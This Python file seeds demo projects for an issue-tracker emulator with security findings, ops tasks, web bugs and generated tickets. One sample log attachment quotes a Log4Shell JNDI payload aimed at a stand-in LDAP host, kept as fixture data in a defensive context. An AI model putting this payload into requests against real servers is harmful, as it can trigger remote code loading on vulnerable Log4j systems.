"""Sample data: the "demo" projects (SEC, OPS, WEB) and fast deterministic generated projects."""

import random
import zlib

import catalog as C
from state import now_ms

DAY = 86400000
HOUR = 3600000

# (package/version, host, CVE, CVSS, short text, fixed version)
SEC_FINDINGS = [
    ("OpenSSL 3.0.7", "web-01", "CVE-2023-0286", 7.4,
     "X.400 address type confusion in X.509 GeneralName", "3.0.8"),
    ("Apache Log4j 2.14.1", "app-02", "CVE-2021-44228", 10.0,
     "JNDI lookup in log messages allows remote code execution (Log4Shell)", "2.17.1"),
    ("OpenSSH 8.9p1", "bastion-01", "CVE-2023-38408", 9.8,
     "ssh-agent PKCS#11 provider loading allows remote code execution", "9.3p2"),
    ("nginx 1.20.1", "web-02", "CVE-2021-23017", 7.7,
     "off-by-one in the resolver allows a 1-byte memory overwrite", "1.20.2"),
    ("PostgreSQL 13.7", "db-01", "CVE-2022-2625", 8.0,
     "extension scripts can replace objects not belonging to the extension", "13.8"),
    ("glibc 2.35", "infra-03", "CVE-2023-4911", 7.8,
     "buffer overflow in ld.so GLIBC_TUNABLES handling (Looney Tunables)", "2.35-0ubuntu3.4"),
    ("sudo 1.9.5p1", "bastion-01", "CVE-2021-3156", 7.8,
     "heap-based buffer overflow in sudoedit -s (Baron Samedit)", "1.9.5p2"),
    ("curl 7.86.0", "web-03", "CVE-2023-23914", 9.1,
     "HSTS ignored on multiple requests", "7.88.0"),
    ("Redis 6.2.6", "db-03", "CVE-2022-0543", 10.0,
     "Lua sandbox escape in Debian-packaged Redis", "6.2.6-3"),
    ("Apache HTTP Server 2.4.49", "web-04", "CVE-2021-41773", 7.5,
     "path traversal and file disclosure in mod_alias", "2.4.51"),
    ("Samba 4.13.2", "infra-05", "CVE-2021-44142", 9.9,
     "out-of-bounds heap read/write in vfs_fruit", "4.13.17"),
    ("polkit 0.105", "infra-01", "CVE-2021-4034", 7.8,
     "local privilege escalation in pkexec (PwnKit)", "0.105-31"),
    ("Linux kernel 5.15.0", "infra-02", "CVE-2022-0847", 7.8,
     "pipe buffer flags not initialised (Dirty Pipe)", "5.15.25"),
    ("OpenSSL 1.1.1n", "web-05", "CVE-2022-0778", 7.5,
     "infinite loop in BN_mod_sqrt() when parsing certificates", "1.1.1o"),
    ("Jenkins 2.440", "infra-04", "CVE-2024-23897", 9.8,
     "arbitrary file read through the CLI argument parser", "2.442"),
    ("xz-utils 5.6.0", "infra-06", "CVE-2024-3094", 10.0,
     "malicious code in the upstream tarballs (liblzma backdoor)", "5.4.6"),
    ("MySQL 8.0.28", "db-02", "CVE-2022-21417", 4.9,
     "InnoDB denial of service by a high-privileged attacker", "8.0.29"),
    ("BIND 9.16.1", "infra-07", "CVE-2022-3080", 7.5,
     "named crashes with stale cache and stale answers enabled", "9.16.33"),
    ("OpenSSL 3.0.7", "web-02", "CVE-2023-0286", 7.4,
     "X.400 address type confusion in X.509 GeneralName", "3.0.8"),
    ("PHP 8.1.2", "web-06", "CVE-2024-4577", 9.8,
     "argument injection in PHP-CGI on Windows code pages", "8.1.29"),
]
SEC_OTHER = [
    ("Expired TLS certificate on vpn.example.com", "vpn-01", None, 5.3, "infra"),
    ("Weak SSH ciphers enabled on bastion-02", "bastion-02", None, 4.3, "infra"),
    ("Default credentials on printer-03 admin interface", "printer-03", None, 8.8, "infra"),
    ("TLS 1.0 enabled on legacy-01", "legacy-01", None, 5.9, "web"),
    ("Database port 5432 reachable from the DMZ", "db-01", None, 6.5, "db"),
]
SOURCES = [10100, 10101, 10102, 10103]

OPS_TASKS = [
    ("Rotate TLS certificates on the load balancers", "infra"),
    ("Upgrade PostgreSQL 13 to 15 on db-01", "db"),
    ("Disk usage above 85% on logs-02", "infra"),
    ("Renew domain example.com before 2027-01-15", "web"),
    ("Patch window: November kernel updates", "infra"),
    ("Migrate nightly backups to the new object store", "db"),
    ("Set up monitoring for db-03", "db"),
    ("Decommission legacy-01", "infra"),
    ("Replace failed disk in storage-02", "infra"),
    ("Update the failover runbook", "db"),
    ("Reduce alert noise from CPU checks", "infra"),
    ("Add swap on build-01", "infra"),
    ("Review firewall rules for the DMZ", "infra"),
    ("Configure 90-day log retention", "infra"),
    ("Quarterly restore test of backups", "db"),
    ("Upgrade the Kubernetes cluster to 1.29", "infra"),
    ("NTP drift on infra-03", "infra"),
    ("Rotate service account passwords", "infra"),
    ("Enable HTTP/2 on web-01 and web-02", "web"),
    ("Clean up stale DNS records", "infra"),
    ("Raise max_connections on db-02", "db"),
]
WEB_ITEMS = [
    (1, "Login page returns 500 when the password contains an emoji", "web"),
    (10001, "As a user I want to reset my password by email", "web"),
    (1, "Search results pagination skips page 3", "web"),
    (1, "Dark mode setting is not persisted across sessions", "web"),
    (1, "Checkout button misaligned on Safari 17", "web"),
    (10001, "As an admin I want to export users as CSV", "db"),
    (1, "Broken link to the privacy policy in the footer", "web"),
    (4, "Lazy-load images on the product list", "web"),
    (1, "Session expires after 5 minutes instead of 30", "web"),
    (10001, "As a visitor I want to see prices in my currency", "web"),
    (4, "Cache the product catalogue API responses", "db"),
    (1, "Typo in the German translation of the cart page", "web"),
    (1, "Profile picture upload fails for PNG files over 2 MB", "web"),
    (10001, "As a user I want two-factor authentication with TOTP", "infra"),
    (4, "Reduce the JavaScript bundle size below 300 KB", "web"),
    (1, "Order history shows orders of another account after logout", "db"),
    (2, "Wishlist sharing by link", "web"),
    (1, "Newsletter unsubscribe link returns 404", "web"),
]
COMMENTS = [
    "Patched on staging", "Retested: still vulnerable", "Vendor fix scheduled for the next "
    "maintenance window", "Confirmed by the scanner run of this morning", "Waiting for a "
    "change approval", "Workaround applied, see the runbook", "Cannot reproduce on the current "
    "build", "Deployed to production, monitoring", "Duplicate of an older finding?",
    "Assigned to the on-call engineer", "Looks like a false positive, checking the package "
    "changelog", "Fixed in the last release",
]
USERS_ROTA = ["jdoe", "bob", "alice", None]


def _prio(cvss):
    if cvss >= 9:
        return 1
    if cvss >= 7:
        return 2
    if cvss >= 4:
        return 3
    return 4


def _comp(project, name):
    for cid, n in project.components.items():
        if n == name:
            return cid
    return None


def _status_cycle(n, rnd):
    """Status/resolution for the n-th demo issue (0-based)."""
    r = n % 6
    if r == 1:
        return C.IN_PROGRESS, None
    if r == 3:
        return C.RESOLVED, 1 if rnd.random() < 0.5 else 10000
    if r == 4:
        return C.CLOSED, 10000
    if r == 5 and n % 12 == 5:
        return C.REOPENED, None
    return C.OPEN, None


def seed_demo(state):
    rnd = random.Random(20261128)
    now = now_ms()
    base = now - 60 * DAY

    def stamps(n, total):
        created = base + int(n * (55 * DAY) / total) + rnd.randrange(0, 8 * HOUR)
        updated = min(created + rnd.randrange(HOUR, 6 * DAY), now - rnd.randrange(HOUR, 3 * DAY))
        return created, max(updated, created)

    def comments_for(issue, k, created, updated):
        for j in range(k):
            t = created + (updated - created) * (j + 1) // (k + 1)
            state.new_comment(issue, rnd.choice(["jdoe", "bob", "alice"]),
                              rnd.choice(COMMENTS), created=t)

    sec = state.create_project("SEC", "Security Findings",
                               description="Vulnerability findings from scanners and pentests.",
                               components=["web", "db", "infra"], lead="alice")
    items = [(f, True) for f in SEC_FINDINGS] + [(f, False) for f in SEC_OTHER]
    total = len(items)
    for n, (f, is_cve) in enumerate(items):
        created, updated = stamps(n, total)
        status, res = _status_cycle(n, rnd)
        if is_cve:
            pkg, host, cve, cvss, text, fixed = f
            summary = "%s on %s (%s)" % (pkg, host, cve)
            labels = ["security", cve.lower()]
            comp = "db" if host.startswith("db") else "web" if host.startswith("web") else "infra"
            desc = ("Scanner found %s on %s.\n\n%s: %s.\nUpgrade to %s or later.\n\n"
                    "Reference: https://nvd.nist.gov/vuln/detail/%s"
                    % (pkg, host, cve, text, fixed, cve))
        else:
            summary, host, cve, cvss, comp = f
            labels = ["security", "hardening"]
            desc = "Found during the quarterly external scan.\n\nHost: %s" % host
        if cvss >= 9:
            labels.append("critical")
        i = state.new_issue(
            sec, summary, issuetype=1, reporter="nucleus-bot", created=created, updated=updated,
            description=desc, priority=_prio(cvss), labels=labels,
            components=[_comp(sec, comp)], assignee=USERS_ROTA[n % 4], status=status,
            resolution=res, resolutiondate=updated if res else None,
            environment="Production" if n % 3 else "Staging",
            duedate=None if n % 4 else "2026-12-%02d" % (1 + n % 28),
            custom={"customfield_10020": cvss, "customfield_10021": host,
                    "customfield_10022": SOURCES[n % len(SOURCES)]},
            creator="nucleus-bot")
        if n % 7 == 3:
            del i.custom["customfield_10021"]
        comments_for(i, (0, 1, 2, 0, 1)[n % 5], created, updated)

    ops = state.create_project("OPS", "Operations", description="Operations tasks.",
                               components=["web", "db", "infra"], lead="bob")
    for n, (summary, comp) in enumerate(OPS_TASKS):
        created, updated = stamps(n, len(OPS_TASKS))
        status, res = _status_cycle(n + 2, rnd)
        i = state.new_issue(
            ops, summary, issuetype=3, reporter=("bob", "alice", "jdoe")[n % 3],
            created=created, updated=updated,
            description="%s.\n\nSee the operations handbook for the procedure." % summary,
            priority=(2, 3, 3, 4)[n % 4], labels=["ops"] + (["maintenance"] if n % 2 else []),
            components=[_comp(ops, comp)], assignee=USERS_ROTA[(n + 1) % 4], status=status,
            resolution=res, resolutiondate=updated if res else None)
        comments_for(i, (1, 0, 0, 2)[n % 4], created, updated)

    web = state.create_project("WEB", "Website", description="Public website bugs and stories.",
                               components=["web", "db", "infra"], lead="jdoe")
    for n, (itype, summary, comp) in enumerate(WEB_ITEMS):
        created, updated = stamps(n, len(WEB_ITEMS))
        status, res = _status_cycle(n + 4, rnd)
        i = state.new_issue(
            web, summary, issuetype=itype, reporter=("jdoe", "alice", "bob")[n % 3],
            created=created, updated=updated,
            description=("Steps to reproduce:\n1. Open the site\n2. %s\n\nExpected: works.\n"
                         "Actual: does not." % summary) if itype == 1 else
            "%s.\n\nAcceptance criteria to be refined." % summary,
            priority=(3, 2, 3, 4, 1)[n % 5],
            labels=(["frontend"] if comp == "web" else ["backend"]) + (["ux"] if n % 4 == 0
                                                                     else []),
            components=[_comp(web, comp)], assignee=USERS_ROTA[(n + 2) % 4], status=status,
            resolution=res, resolutiondate=updated if res else None)
        comments_for(i, (0, 1, 0, 3)[n % 4], created, updated)

    _demo_attachments(state, sec)
    # the demo user's favourite filter (the --token-file PAT is alice's)
    state.add_filter("My open SEC tickets",
                     "project = SEC AND assignee = currentUser() AND resolution = Unresolved "
                     "ORDER BY priority DESC, key ASC", "alice", favourite_of=["alice"],
                     description="Security findings assigned to me that are not resolved.")


# A tiny PNG-like binary: the PNG signature, an IHDR chunk of a 1x1 image and bytes that are
# no valid image data (the emulator never decodes images)
DEMO_PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01"
            b"\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + bytes(range(256)) * 2)


def _demo_attachments(state, sec):
    """A scan report and a screenshot on SEC-1, a log excerpt on SEC-2; created between the
    ticket's creation and its last update (so `updated` stays as seeded). No draw from the
    seed's random generator: the rest of the demo data does not move."""
    i1, i2 = state.issues["SEC-1"], state.issues["SEC-2"]

    def at(issue, k):
        return issue.created + (issue.updated - issue.created) * k // 4
    report = ("Nessus scan report\n"
              "Host: web-01\n"
              "Plugin 171079: OpenSSL 3.0.x < 3.0.8 Multiple Vulnerabilities\n"
              "Installed version: 3.0.7\n"
              "Fixed version: 3.0.8\n"
              "CVE: CVE-2023-0286 (X.400 address type confusion in X.509 GeneralName)\n")
    state.add_attachment(i1, "scan-report.txt", report.encode("utf-8"), "text/plain",
                         "nucleus-bot", created=at(i1, 1), touch=False)
    state.add_attachment(i1, "screenshot.png", DEMO_PNG, "image/png", "alice",
                         created=at(i1, 2), touch=False)
    log = ("2026-10-03 09:14:03,112 WARN  [scanner] JNDI lookup pattern seen in User-Agent\n"
           "2026-10-03 09:14:03,118 WARN  [scanner] ${jndi:ldap://203.0.113.7:1389/a}\n"
           "2026-10-03 09:14:04,002 INFO  [scanner] log4j-core 2.14.1 found in app.jar\n")
    state.add_attachment(i2, "log4shell excerpt.log", log.encode("utf-8"), "text/plain",
                         "jdoe", created=at(i2, 2), touch=False)


_PKGS = ["OpenSSL 3.0.%d", "nginx 1.2%d.1", "OpenSSH 8.%dp1", "curl 7.8%d.0", "glibc 2.3%d",
         "PostgreSQL 13.%d", "Redis 6.2.%d", "sudo 1.9.%dp1", "BIND 9.16.%d", "Apache 2.4.4%d"]
_HOSTS = ["web", "db", "infra", "app", "mail", "cache", "build", "vpn"]
_TASKS = ["Rotate credentials on %s", "Patch %s", "Disk usage alert on %s",
          "Review access logs of %s", "Upgrade agent on %s", "Investigate latency on %s"]


def seed_project(state, key, count, done_every=4, comments=None, name=None):
    """Create project KEY (if needed) and COUNT generated tickets, fast and deterministic:
    every DONE_EVERY-th ticket (by number within this batch) is Closed with resolution Done;
    COMMENTS = exact number of comments per ticket, or None for 0-2 pseudo-random."""
    key = key.upper()
    project = state.projects.get(key) or state.create_project(
        key, name or "Generated %s" % key, description="Generated test project.")
    rnd = random.Random(zlib.crc32(key.encode()) ^ count)
    now = now_ms()
    span = 180 * DAY
    comps = list(project.components) or [None]
    done_every = int(done_every or 0)
    first = None
    nusers = ["jdoe", "bob", "alice", None, "nucleus-bot"]
    for n in range(1, count + 1):
        created = now - span + (span - DAY) * n // max(count, 1) - rnd.randrange(0, HOUR)
        updated = min(created + rnd.randrange(0, 3 * DAY), now - 60000)
        updated = max(updated, created)
        h = "%s-%02d" % (_HOSTS[n % len(_HOSTS)], n % 97)
        if n % 3:
            if n % 3 == 1:      # a real finding on a generated host
                known = SEC_FINDINGS[(n // 3) % len(SEC_FINDINGS)]
                pkg, cve = known[0], known[2]
            else:
                pkg = _PKGS[n % len(_PKGS)] % (n % 10)
                cve = "CVE-20%d-%d" % (20 + n % 6, 1000 + rnd.randrange(0, 48000))
            summary = "%s on %s (%s)" % (pkg, h, cve)
            labels = ["security", cve.lower()]
            itype = 1
            cvss = round(rnd.uniform(2.0, 10.0), 1)
            desc = ("Finding %d of the generated set.\nScanner output for %s: vulnerable "
                    "package detected.\nReference: https://nvd.nist.gov/vuln/detail/%s"
                    % (n, h, cve))
        else:
            summary = _TASKS[n % len(_TASKS)] % h
            labels = ["ops"]
            itype = 3
            cvss = None
            desc = "Generated task %d.\nHost: %s" % (n, h)
        if done_every and n % done_every == 0:
            status, res = C.CLOSED, 10000
        elif n % 7 == 1:
            status, res = C.IN_PROGRESS, None
        else:
            status, res = C.OPEN, None
        custom = {"customfield_10021": h}
        if cvss is not None:
            custom["customfield_10020"] = cvss
        i = state.new_issue(
            project, summary, issuetype=itype, reporter="nucleus-bot", created=created,
            updated=updated, description=desc, priority=C.PRIORITY_ORDER[n % 5], labels=labels,
            components=[comps[n % len(comps)]] if comps[0] is not None else [],
            assignee=nusers[n % 5], status=status, resolution=res,
            resolutiondate=updated if res else None, custom=custom)
        k = comments if comments is not None else (0, 1, 0, 2, 0, 0)[n % 6]
        for j in range(k):
            t = created + (updated - created) * (j + 1) // (k + 1)
            state.new_comment(i, nusers[(n + j) % 3], "%s (#%d)" % (COMMENTS[(n + j) % len(COMMENTS)],
                                                                    j + 1), created=t)
        if first is None:
            first = i.key
    state.changed()
    return {"project": key, "count": count, "first": first,
            "last": "%s-%d" % (key, project.next_num - 1) if count else None}
